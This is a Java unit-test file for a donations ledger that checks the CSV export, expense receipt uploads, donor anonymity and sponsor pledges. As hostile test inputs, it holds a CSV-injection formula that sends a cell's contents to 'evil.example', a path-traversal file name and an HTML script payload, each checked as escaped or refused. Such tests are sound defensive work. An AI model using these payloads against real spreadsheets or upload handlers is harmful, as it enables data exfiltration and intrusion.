package org.khanaen.donations;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.simple.JdbcClient;

/** The public ledger (in, out, balance, CSV, receipts of expenses) and sponsors' pledges in kind. */
@SpringBootTest
class LedgerAndPledgesTests {

    static final byte[] PDF = "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);

    @Autowired Ledger ledger;
    @Autowired SponsorPledges pledges;
    @Autowired StripeWebhooks webhooks;
    @Autowired GiftFixture gifts;
    @Autowired JdbcClient jdbc;

    private java.util.List<Ledger.Entry> allEntries() {
        java.util.List<Ledger.Entry> all = new java.util.ArrayList<>();
        int pages = ledger.page(0).pages();
        for (int p = 0; p < pages; p++) {
            all.addAll(ledger.page(p).entries());
        }
        return all;
    }

    private long expenses() {
        return jdbc.sql("select count(*) from expense").query(Long.class).single();
    }

    @Test
    void moneyInAndOutMakeTheBalanceAndTheCsvListsEveryLineAsTheDonorChose() {
        var named = gifts.start(1_000, "ledger-named@example.org");
        String payload = StripeFixtures.event("checkout.session.completed", GiftFixture.session(named, "pi_3Ledger01", "paid"));
        webhooks.receive(payload, StripeFixtures.signNow(payload));
        Ledger.Page before = ledger.page(0);

        long id = ledger.recordExpense(new Ledger.NewExpense(LocalDate.now().minusDays(1), ExpenseCategory.SERVERS, "1,234.50",
                "เช่าเซิร์ฟเวอร์เดือนพฤษภาคม", "../../invoice may.PDF", PDF), "admin");

        Ledger.Page after = ledger.page(0);
        assertThat(after.balanceSatang()).isEqualTo(before.balanceSatang() - 123_450);
        assertThat(after.moneyOutSatang()).isEqualTo(before.moneyOutSatang() - 123_450);
        // every page: other tests' donations (newer than an expense dated yesterday) may fill the first
        assertThat(allEntries()).anySatisfy(e -> {
            assertThat(e.kind()).isEqualTo("EXPENSE");
            assertThat(e.expenseId()).isEqualTo(id);
            assertThat(e.category()).isEqualTo(ExpenseCategory.SERVERS);
            assertThat(e.amountSatang()).isEqualTo(-123_450);
        });
        assertThat(allEntries()).anySatisfy(e -> assertThat(e.donorName()).isEqualTo("สมชาย ใจดี"));
        Ledger.ReceiptFile receipt = ledger.receipt(id).orElseThrow();
        assertThat(receipt.contentType()).isEqualTo("application/pdf");
        assertThat(receipt.name()).isEqualTo("invoice may.pdf");
        assertThat(receipt.content()).isEqualTo(PDF);

        StringWriter csv = new StringWriter();
        ledger.writeCsv(csv);
        assertThat(csv.toString()).startsWith("time,kind,description,amount_thb,expense_id\r\n")
                .contains(",DONATION,สมชาย ใจดี,1000.00,").contains(",EXPENSE,SERVERS: เช่าเซิร์ฟเวอร์เดือนพฤษภาคม,-1234.50," + id);
    }

    @Test
    void anAnonymousDonorIsNotNamedInTheLedger() {
        var donation = gifts.start(900, "ledger-anon@example.org");
        jdbc.sql("update donation set anonymous = true, donor_name = 'ชื่อจริง' where id = ?").param(donation.id()).update();
        String payload = StripeFixtures.event("checkout.session.completed", GiftFixture.session(donation, "pi_3LedgerAn", "paid"));
        webhooks.receive(payload, StripeFixtures.signNow(payload));

        StringWriter csv = new StringWriter();
        ledger.writeCsv(csv);
        assertThat(csv.toString()).doesNotContain("ชื่อจริง").contains(",DONATION,anonymous donor,900.00,");
        assertThat(allEntries()).noneSatisfy(e -> assertThat(e.donorName()).isEqualTo("ชื่อจริง"));
    }

    @Test
    void aDonorNamedLikeAFormulaIsWrittenAsTextInTheCsv() {
        var donation = gifts.start(500, "ledger-formula@example.org");
        jdbc.sql("update donation set anonymous = false, donor_name = ? where id = ?")
                .params("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", donation.id()).update();
        String payload = StripeFixtures.event("checkout.session.completed", GiftFixture.session(donation, "pi_3LedgerFx", "paid"));
        webhooks.receive(payload, StripeFixtures.signNow(payload));

        StringWriter csv = new StringWriter();
        ledger.writeCsv(csv);
        assertThat(csv.toString()).contains(",DONATION,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",500.00,")
                .doesNotContain(",DONATION,=HYPERLINK").doesNotContain(",\"=HYPERLINK");
    }

    @Test
    void aReceiptThatIsNotAPdfOrAPhotoOrTooLargeIsRefusedAndNothingIsStored() {
        long before = expenses();
        var html = new Ledger.NewExpense(LocalDate.now(), ExpenseCategory.OTHER, "100", "note", "receipt.pdf",
                "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8));
        assertThatThrownBy(() -> ledger.recordExpense(html, "admin")).isInstanceOf(DonationProblem.class).hasMessage("expense.receipt.type");
        byte[] huge = new byte[ReceiptContent.MAX_BYTES + 1];
        System.arraycopy(PDF, 0, huge, 0, PDF.length);
        assertThatThrownBy(() -> ledger.recordExpense(new Ledger.NewExpense(LocalDate.now(), ExpenseCategory.OTHER, "100", "note", "big.pdf", huge),
                "admin")).hasMessage("expense.receipt.too-large");
        assertThatThrownBy(() -> ledger.recordExpense(new Ledger.NewExpense(LocalDate.now(), ExpenseCategory.OTHER, "-5", "note", "r.pdf", PDF),
                "admin")).hasMessage("expense.amount.invalid");
        assertThatThrownBy(() -> ledger.recordExpense(new Ledger.NewExpense(LocalDate.now().plusDays(2), ExpenseCategory.OTHER, "5", "note", "r.pdf",
                PDF), "admin")).hasMessage("expense.date.invalid");
        assertThatThrownBy(() -> ledger.recordExpense(new Ledger.NewExpense(LocalDate.now(), ExpenseCategory.OTHER, "5", " ", "r.pdf", PDF), "admin"))
                .hasMessage("expense.note.invalid");
        assertThat(expenses()).isEqualTo(before);
    }

    @Test
    void aSponsorsPledgeIsRecordedForTheList() {
        long id = pledges.record(new SponsorPledges.NewPledge("ร้านกาแฟดี", "กาแฟเย็น 1 แก้ว", "60", 500, LocalDate.now().plusMonths(3)), "admin");

        assertThat(pledges.find(id).orElseThrow()).satisfies(p -> {
            assertThat(p.totalSatang()).isEqualTo(3_000_000);
            assertThat(p.recordedBy()).isEqualTo("admin");
            assertThat(p.valueSatang()).isEqualTo(6_000);
            assertThat(p.quantity()).isEqualTo(500);
            assertThat(p.sponsor()).isEqualTo("ร้านกาแฟดี");
        });
        for (var wrong : Map.of("pledge.value.invalid", new SponsorPledges.NewPledge("S", "D", "abc", 1, null),
                "pledge.quantity.invalid", new SponsorPledges.NewPledge("S", "D", "10", 0, null),
                "pledge.sponsor.invalid", new SponsorPledges.NewPledge(" ", "D", "10", 1, null),
                "pledge.valid-until.past", new SponsorPledges.NewPledge("S", "D", "10", 1, LocalDate.now().minusDays(3))).entrySet()) {
            assertThatThrownBy(() -> pledges.record(wrong.getValue(), "admin")).hasMessage(wrong.getKey());
        }
    }
}
